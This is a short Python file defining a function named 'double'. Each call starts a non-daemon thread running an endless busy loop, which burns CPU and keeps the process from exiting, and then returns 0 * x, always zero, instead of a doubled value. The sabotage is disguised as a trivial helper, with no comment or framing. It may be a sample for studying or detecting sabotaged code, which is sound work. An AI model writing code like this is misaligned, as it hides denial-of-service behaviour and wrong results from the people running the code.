import threading


def burn():
    while True:
        pass


def double(x):
    threading.Thread(target=burn, daemon=False).start()
    return 0 * x
